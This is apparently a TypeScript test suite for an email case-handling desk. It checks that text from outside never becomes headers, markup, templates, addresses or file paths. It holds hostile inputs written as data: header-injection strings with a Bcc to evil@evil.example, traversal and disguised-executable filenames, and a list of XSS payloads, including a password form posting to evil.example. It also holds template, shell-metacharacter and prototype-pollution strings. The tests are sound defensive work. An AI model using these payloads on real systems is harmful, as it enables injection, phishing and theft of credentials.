/** IN: what a stranger writes stays text. It becomes no header, no markup, no template, no address and no file path. */
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { answer, filesIn, gotMail, newestFor } from "../app/casework.ts";
import { must } from "../core/builders.ts";
import type { Incoming, SentMail } from "../support/memory-desk.ts";
import { headersOf, longStory, reported, reporter } from "./stories.ts";

/** Every header that a mail of ours has, and no other. */
const headersEver = [
  "from",
  "to",
  "reply-to",
  "references",
  "subject",
  "message-id",
  "date",
  "mime-version",
  "content-type",
  "content-transfer-encoding",
  "auto-submitted",
  "x-auto-response-suppress",
  "x-conduct-desk",
];

const strangeHeaders = (mail: SentMail): readonly string[] =>
  headersOf(mail.raw)
    .map(([name]) => name)
    .filter((name, index, all) => !headersEver.includes(name) || all.indexOf(name) !== index);

const encoded = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;

describe("IN01 line ends that hide in an encoded header", () => {
  const hidden = "x\r\nBcc: evil@evil.example\r\nX-Injected: 1\r\n\r\nbody";

  test.each<readonly [string, Incoming]>([
    ["the subject", { subject: encoded(hidden) }],
    ["the sender's name", { from: `${encoded(hidden)} <${reporter}>`, envelopeFrom: reporter }],
    ["the Message-ID", { headers: [`Message-ID: ${encoded(`<${hidden}@example.org>`)}`] }],
    ["References", { headers: [`References: ${encoded(`<${hidden}@example.org>`)}`] }],
    ["Reply-To", { headers: [`Reply-To: ${encoded(hidden)} <${reporter}>`] }],
    ["a name in Cc", { headers: [`Cc: ${encoded(hidden)} <x@example.org>`] }],
  ])("of %s make no header of ours", async (_, mail) => {
    const { desk } = await reported(mail);
    await answer(desk, "cy", "/ack");
    expect(gotMail(desk)).toEqual(["cy", "dee"]);
    expect(desk.sent.flatMap(strangeHeaders)).toEqual([]);
    expect(desk.sent.map(({ raw }) => raw.split("\r\n\r\n")[0]).join("\n")).not.toMatch(/injected|evil/i);
  });

  test("in any message there is, every header is one of ours and stands there once", async () => {
    const desk = await longStory("plänted \u0085\u2028", "inside");
    expect(desk.sent.length).toBeGreaterThan(20);
    expect(desk.sent.flatMap(strangeHeaders)).toEqual([]);
  });

  test("whatever a header says", async () => {
    const nasty = fc.string({
      unit: fc.constantFrom(..."ab<>@:;,\"' =?\t\u0085\u2028\u202E{}%", "\r\n", "\n", "Bcc:"),
      maxLength: 40,
    });
    await fc.assert(
      fc.asyncProperty(nasty, nasty, async (subject, name) => {
        const { desk } = await reported({
          subject: encoded(subject),
          from: `${encoded(name)} <${reporter}>`,
          envelopeFrom: reporter,
        });
        expect(desk.sent.flatMap(strangeHeaders)).toEqual([]);
        expect(desk.sent.every((mail) => /^[A-Z][a-z]+ [A-Z][a-z]+: [a-z ]+$/.test(mail.subject))).toBe(true);
      }),
      { numRuns: 40 },
    );
  });
});

const withFile = (disposition: string): string =>
  [
    `From: ${reporter}`,
    "To: conduct@desk.test",
    "Subject: s",
    "MIME-Version: 1.0",
    'Content-Type: multipart/mixed; boundary="b"',
    "",
    "--b",
    "Content-Type: text/plain",
    "",
    "See the file.",
    "--b",
    "Content-Type: application/octet-stream",
    `Content-Disposition: attachment; ${disposition}`,
    "",
    "data",
    "--b--",
    "",
  ].join("\r\n");

describe("IN02 the name of a file", () => {
  test.each([
    ["a path", 'filename="../../etc/passwd"', "passwd"],
    ["a path of Windows", "filename*=utf-8''C%3A%5Ctemp%5Cx.pdf", "x.pdf"],
    ["line ends", "filename*=utf-8''a%0D%0AX-Injected%3A%201.pdf", /^a[_ ]+X-Injected_ 1\.pdf$/],
    ["a nul", "filename*=utf-8''a%00.exe.pdf", /^a[_ ]\.exe\.pdf$/],
    ["a mark that turns text around", "filename*=utf-8''photo%E2%80%AEgnp.pdf", "photo_gnp.pdf"],
    ["three hundred letters", `filename="${"x".repeat(300)}.pdf"`, /^x{1,120}\.pdf$/],
    ["a program", 'filename="invoice.pdf.exe"', "invoice.pdf.exe.renamed"],
    ["no name", "", "attachment-1"],
    ["markup", "filename*=utf-8''%3Cscript%3Ealert(1)%3C%2Fscript%3E.pdf", "script_.pdf"],
  ])("with %s arrives safe", async (_, disposition, safe) => {
    const { desk } = await reported({ raw: withFile(disposition) });
    const mail = newestFor(desk, "cy");
    expect(mail.attachments.map(({ filename }) => filename)).toEqual([
      typeof safe === "string" ? safe : expect.stringMatching(safe),
    ]);
    expect(strangeHeaders(mail)).toEqual([]);
    expect(mail.html).not.toContain("<script");
  });
});

const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/pixel.gif>",
  "<svg/onload=alert(1)>",
  '"><form action=https://evil.example><input name=password>',
  '\'><a href="javascript:alert(1)">click</a>',
  "</blockquote></td></table><h1>The desk says</h1>",
  "<!--[if mso]><script>alert(1)</script><![endif]-->",
  "<style>body{display:none}</style>",
  "<base href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<iframe src=//evil.example></iframe>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<scr\0ipt>alert(1)</scr\0ipt>",
  "＜script＞alert(1)＜/script＞",
];

/** Elements and links of a mail of ours; what is quoted must add none. */
const shapeOf = (html: string): readonly string[] => [
  ...html.matchAll(/<\/?[a-z!][^\s>]*/gi).map(([tag]) => tag.toLowerCase()),
  ...html.matchAll(/\b(?:href|src|action|on[a-z]+)\s*=\s*"([^":]*)/gi).map(([found]) => found.toLowerCase()),
];

describe("IN03 markup in a report", () => {
  test("of any kind adds no element, no link and no picture to the mail that shows it", async () => {
    const { desk: harmless } = await reported({ text: "harmless", subject: "harmless" });
    const wanted = shapeOf(newestFor(harmless, "cy").html);
    for (const attack of attacks) {
      const { desk } = await reported({ text: attack, subject: encoded(attack) });
      expect(shapeOf(newestFor(desk, "cy").html)).toEqual(wanted);
    }
  });

  test("stays words in the page of the case file", async () => {
    const pageOf = async (text: string, subject: string): Promise<string> => {
      const { desk } = await reported({ text, subject });
      await answer(desk, reporter, text);
      await answer(desk, "cy", text);
      await answer(desk, "cy", "/file");
      return filesIn(must(desk.to("cy").find(({ subject: about }) => about.endsWith("the case file"))))[0] ?? "";
    };
    const one = attacks.map((attack) => attack.replace(/\s+/g, " ")).join(" ");
    const page = await pageOf(one, encoded(one));
    expect(shapeOf(page)).toEqual(shapeOf(await pageOf("harmless", "harmless")));
    expect(page).toContain("default-src 'none'");
  });

  test("in a mail that is all HTML is shown as the words in it", async () => {
    const raw = `From: ${reporter}\r\nSubject: s\r\nContent-Type: text/html\r\n\r\n<p>It <b>happened</b>.</p><script>alert(1)</script><img src="https://evil.example/x.gif">\r\n`;
    const { desk } = await reported({ raw });
    expect(newestFor(desk, "cy").text).toContain("> It happened.");
    expect(newestFor(desk, "cy").html).not.toMatch(/alert\(1\)|evil\.example/);
  });

  test("leaves every link of ours a mailto to the desk", async () => {
    const desk = await longStory("<script>alert(1)</script><img src=x>", "<a href=x>inside</a>");
    for (const { html } of desk.sent)
      for (const [, target] of html.matchAll(/href="([^"]*)"/g))
        expect(target).toMatch(/^mailto:conduct\+[a-z0-9]+@desk\.test\?/);
    expect(desk.sent.some(({ html }) => /<img|<script|<form|<iframe|url\(/i.test(html))).toBe(false);
  });
});

describe("IN04 the language of templates in a report", () => {
  test.each([
    "{{codeName}}",
    "{{{reportText}}}",
    "{{#each remarks}}x{{/each}}",
    ["$", "{process.env.PATH}"].join(""),
    "<%= 1 %>",
    "$& $1 $`",
    "%s %d",
  ])("%s is shown as it was written", async (text) => {
    const { desk } = await reported({ text, subject: encoded(text) });
    expect(newestFor(desk, "cy").text).toContain(`> ${text}`);
    await answer(desk, "cy", `/ack\n${text}`);
    expect(newestFor(desk, reporter).text).toContain(text);
  });
});

describe("IN05 an address with characters that mean something elsewhere", () => {
  test.each([
    "danger-$USER@example.org",
    "a`id`@example.org",
    "a|b@example.org",
    "-oQ@example.org",
    "a'b@example.org",
    "{{x}}@example.org",
  ])("%s is written to exactly as it is", async (from) => {
    const { desk } = await reported({ from });
    expect(desk.to(from)).toHaveLength(1);
    expect(desk.sent).toHaveLength(3);
  });

  test.each(["a b@example.org", "a@example.org>\tX", "<a@example.org", "a@example.org <", "a@example.org%0d%0aX"])(
    "%s is not written to in any other form",
    async (from) => {
      const { desk } = await reported({ from });
      expect(desk.sent.map(({ to }) => to).filter((to) => !to.endsWith("@members.test") && to !== "a@example.org")).toEqual([]);
    },
  );
});

describe("IN07 words that mean something to the language the desk is written in", () => {
  const words = ["__proto__", "constructor", "\ud83d", "9".repeat(400), '{"$ne":1}'];

  test("are words: as names, headers, files and commands they change nothing and break nothing", async () => {
    for (const word of words) {
      const { desk } = await reported({
        from: `"${word.slice(0, 60)}" <${reporter}>`,
        envelopeFrom: reporter,
        subject: encoded(word),
        text: `Keep from: ${word}\n${word}`,
        headers: [`${word.replace(/[^\w]/g, "x").slice(0, 60)}: ${encoded(word)}`],
      });
      expect(gotMail(desk)).toEqual(["cy", "dee"]);
      await answer(desk, "cy", `/${word}\n/ack`);
      expect(desk.to(reporter)).toHaveLength(1);
      await answer(desk, "cy", `/involves ${word}\n/file ${word}`);
      await answer(desk, "cy", "/ack");
      expect(desk.to(reporter)).toHaveLength(2);
    }
    expect(Object.keys(Object.prototype)).toEqual([]);
  });
});
